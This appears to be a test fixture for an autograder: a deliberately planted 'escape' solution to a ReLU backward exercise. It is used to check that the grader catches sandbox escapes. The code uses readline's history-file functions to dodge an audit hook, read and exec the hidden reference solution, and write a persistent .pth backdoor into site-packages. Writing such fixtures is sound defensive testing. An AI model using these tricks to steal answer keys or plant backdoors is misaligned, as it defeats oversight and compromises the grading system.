"""A planted ESCAPE attempt: readline's history file functions open files outside the audit hook's sight:
read_history_file reads the reference solution (then it is exec'd), write_history_file plants a .pth
file in site-packages, which would run code in every later `minise grade` (a persistent backdoor).

It is a right solution if, and only if, the escape works: backward returns the true gradient only
after the escape succeeded, and raises otherwise. The grader must fail it, and leave no trace of it
(tests/test_exercise_escapes.py checks the files and processes it aims at).
"""
import os
import sysconfig

import numpy as np

EXERCISE = "relu_backward"
EXPECT_FAIL = "backward"          # the grader check that must catch it
ESCAPE = True


def forward(x):
    """x (any shape) -> out (the same shape)."""
    out = np.maximum(x, 0)
    cache = x
    return out, cache

PTH = os.path.join(sysconfig.get_paths()["purelib"], "minise_escape_backdoor.pth")


def _escape():
    import readline
    readline.clear_history()
    readline.add_history("import os; os.environ['MINISE_BACKDOOR'] = '1'")
    try:
        readline.write_history_file(PTH)
    except OSError:
        pass
    readline.clear_history()
    here = os.path.dirname(os.path.abspath(__file__))
    readline.read_history_file(os.path.join(here, "..", "relu_backward.py"))
    source = "\n".join(readline.get_history_item(i) for i in range(1, readline.get_current_history_length() + 1))
    stolen = {}
    exec(source, stolen)
    return stolen["backward"]


def backward(gout, cache):
    return _escape()(gout, cache)
